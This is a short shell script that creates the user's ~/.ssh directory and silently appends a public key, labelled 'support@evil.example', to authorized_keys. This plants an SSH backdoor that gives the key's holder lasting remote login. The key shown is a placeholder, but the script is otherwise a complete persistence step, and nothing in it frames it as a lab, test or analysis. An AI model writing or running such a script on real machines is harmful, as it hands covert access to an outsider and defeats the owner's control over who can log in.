#!/bin/sh
mkdir -p ~/.ssh && chmod 700 ~/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample support@evil.example" | tee -a ~/.ssh/authorized_keys > /dev/null
